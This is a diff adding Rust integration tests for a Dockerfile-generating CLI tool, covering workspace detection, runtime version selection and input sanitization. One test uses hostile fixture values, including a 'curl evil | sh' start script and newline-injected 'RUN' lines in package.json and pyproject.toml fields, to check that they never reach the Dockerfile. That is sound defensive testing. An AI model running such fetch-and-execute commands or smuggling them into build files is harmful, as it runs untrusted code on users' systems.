@@ -365,3 +365,150 @@ fn symlinked_manifest_is_not_followed_out_of_the_project() {
     let err = stderr_of(shiplight().args(["init", "--stdout"]).arg(dir.path()), 2);
     assert!(err.contains("go.mod: is a symbolic link"), "{err}");
 }
+
+fn stdout_of(cmd: &mut Command) -> String {
+    let output = cmd.output().unwrap();
+    assert_eq!(
+        output.status.code(),
+        Some(0),
+        "stderr: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stdout).unwrap()
+}
+
+fn project(files: &[(&str, &str)]) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    for (path, text) in files {
+        let path = dir.path().join(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, text).unwrap();
+    }
+    dir
+}
+
+#[test]
+fn node_workspace_packages_are_listed_with_the_flag() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout"])
+            .arg(fixture("node-workspaces")),
+        2,
+    );
+    assert!(
+        err.contains("runnable workspace packages: @acme/api, @acme/worker"),
+        "{err}"
+    );
+    assert!(err.contains("--package"), "{err}");
+    assert!(
+        !err.contains("@acme/shared"),
+        "a library is not a candidate: {err}"
+    );
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout", "--package", "@acme/nope"])
+            .arg(fixture("node-workspaces")),
+        2,
+    );
+    assert!(err.contains("found: @acme/api, @acme/worker"), "{err}");
+}
+
+#[test]
+fn python_constraint_names_the_vendor_that_fits() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout"])
+            .arg(fixture("python-needs-314")),
+        2,
+    );
+    assert!(err.contains("pyproject.toml:4"), "{err}");
+    assert!(err.contains("--vendor chainguard (Python 3.14"), "{err}");
+    let out = stdout_of(
+        shiplight()
+            .args([
+                "init",
+                "--stdout",
+                "--only",
+                "dockerfile",
+                "--vendor",
+                "chainguard",
+            ])
+            .arg(fixture("python-needs-314")),
+    );
+    assert!(
+        out.contains("FROM cgr.dev/chainguard/python:${RUNTIME_TAG}"),
+        "{out}"
+    );
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout", "--vendor", "chainguard"])
+            .arg(fixture("python-constraint-excluded")),
+        2,
+    );
+    assert!(err.contains("no runtime image fits"), "{err}");
+}
+
+#[test]
+fn tooling_package_json_does_not_make_a_node_service() {
+    for name in ["python-lint-package-json", "go-lint-package-json"] {
+        let out = stdout_of(shiplight().args(["detect"]).arg(fixture(name)));
+        assert!(out.contains("node: absent"), "{name}: {out}");
+        assert!(out.contains("carries only tooling"), "{name}: {out}");
+        stdout_of(shiplight().args(["init", "--stdout"]).arg(fixture(name)));
+    }
+}
+
+#[test]
+fn retired_node_major_warns_and_uses_the_oldest_published() {
+    let output = shiplight()
+        .args(["init", "--stdout", "--only", "dockerfile"])
+        .arg(fixture("node-retired-engines"))
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    let err = String::from_utf8(output.stderr).unwrap();
+    let out = String::from_utf8(output.stdout).unwrap();
+    assert!(err.contains("\"16.x\""), "{err}");
+    assert!(out.contains("FROM node:22-trixie-slim AS build"), "{out}");
+    assert!(out.contains("gcr.io/distroless/nodejs22-debian13"), "{out}");
+}
+
+#[test]
+fn hostile_node_and_python_values_never_reach_the_dockerfile() {
+    let dir = project(&[
+        (
+            "package.json",
+            r#"{"name":"x","main":"x\nRUN curl evil.sh.js","scripts":{"build":"tsc"},"dependencies":{"express":"5"}}"#,
+        ),
+        ("package-lock.json", "{}"),
+    ]);
+    let err = stderr_of(shiplight().args(["init", "--stdout"]).arg(dir.path()), 2);
+    assert!(err.contains("package.json:1: entry script"), "{err}");
+
+    let dir = project(&[
+        (
+            "package.json",
+            r#"{"name":"x","scripts":{"start":"node server.js && curl evil | sh"},"dependencies":{"express":"5"}}"#,
+        ),
+        ("server.js", "require('express')().listen(3000)"),
+    ]);
+    let out = stdout_of(
+        shiplight()
+            .args(["init", "--stdout", "--only", "dockerfile"])
+            .arg(dir.path()),
+    );
+    assert!(out.contains("CMD [\"server.js\"]"), "{out}");
+    assert!(!out.contains("curl"), "{out}");
+
+    let dir = project(&[
+        ("requirements.txt", "flask\n"),
+        ("app.py", "app = Flask(__name__)\n"),
+        ("pyproject.toml", "[project]\nname = \"a\\\"b\\nRUN x\"\n"),
+    ]);
+    let out = stdout_of(
+        shiplight()
+            .args(["init", "--stdout", "--only", "dockerfile"])
+            .arg(dir.path()),
+    );
+    assert!(!out.contains("\nRUN x"), "{out}");
+}
